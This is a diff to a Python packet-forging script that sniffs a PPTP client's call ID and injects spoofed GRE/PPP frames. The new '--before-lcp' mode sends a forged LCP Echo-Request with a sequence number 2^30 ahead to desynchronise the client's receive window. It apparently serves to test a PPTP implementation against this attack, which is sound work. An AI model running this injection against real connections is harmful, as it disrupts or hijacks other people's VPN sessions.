@@ -9,7 +9,14 @@ server's own packets do.
 
 Sends one packet with the sequence number 2^30 ahead, then COUNT packets just
 ahead of the real sequence with random MPPE headers (random coherency counts,
-flushed bit or not) and random bodies. Prints what it sent as JSON."""
+flushed bit or not) and random bodies. Prints what it sent as JSON.
+
+    forge_gre.py SERVER CLIENT --before-lcp
+
+Learns the client's call ID from its Outgoing-Call-Request (clear, on TCP 1723)
+and at once sends a clear LCP Echo-Request to that call with the sequence
+number 2^30, before the server's first LCP packet: the attack that made the
+first frame own the client's receive window."""
 import json
 import os
 import random
@@ -59,6 +66,42 @@ def packet(dst_mac, src_mac, server, client, call_id, seq, ppp):
     return dst_mac + src_mac + b"\x08\x00" + hdr + gre
 
 
+def sniff_call_request(sock, server, client, deadline):
+    """The MAC addresses for server->client frames, and the client's call ID
+    from its Outgoing-Call-Request."""
+    while time.monotonic() < deadline:
+        sock.settimeout(max(0.1, deadline - time.monotonic()))
+        try:
+            frame = sock.recv(65535)
+        except socket.timeout:
+            break
+        if len(frame) < 14 + 40 or frame[12:14] != b"\x08\x00":
+            continue
+        ip = frame[14:]
+        ihl = (ip[0] & 0x0F) * 4
+        if ip[9] != 6 or ip[12:16] != client or ip[16:20] != server:
+            continue
+        tcp = ip[ihl:]
+        if struct.unpack("!H", tcp[2:4])[0] != 1723:
+            continue
+        data = tcp[(tcp[12] >> 4) * 4:]
+        at = data.find(b"\x1a\x2b\x3c\x4d")
+        while at >= 4:
+            if data[at + 4:at + 6] == b"\x00\x07" and len(data) >= at + 10:
+                # Server->client frames go back the way this one came.
+                return frame[6:12], frame[0:6], struct.unpack("!H", data[at + 8:at + 10])[0]
+            at = data.find(b"\x1a\x2b\x3c\x4d", at + 1)
+    raise SystemExit("no Outgoing-Call-Request from the client seen on " + IFACE)
+
+
+def before_lcp(sock, server, client):
+    dst_mac, src_mac, call_id = sniff_call_request(sock, server, client, time.monotonic() + 60)
+    echo = b"\xff\x03\xc0\x21" + bytes([9, 0x42, 0, 8]) + os.urandom(4)
+    for _ in range(3):
+        sock.send(packet(dst_mac, src_mac, server, client, call_id, 1 << 30, echo))
+    print(json.dumps({"call_id": call_id, "seq": 1 << 30, "sent": 3}), flush=True)
+
+
 def mppe_garbage():
     cc = random.getrandbits(12)
     bits = 0x10 | (0x80 if random.random() < 0.5 else 0)
@@ -68,9 +111,11 @@ def mppe_garbage():
 
 def main():
     server, client = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
-    count = int(sys.argv[3])
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     sock.bind((IFACE, 0))
+    if sys.argv[3] == "--before-lcp":
+        return before_lcp(sock, server, client)
+    count = int(sys.argv[3])
     dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
     sent = 0
     # Far ahead: committing it would make every real packet "late".
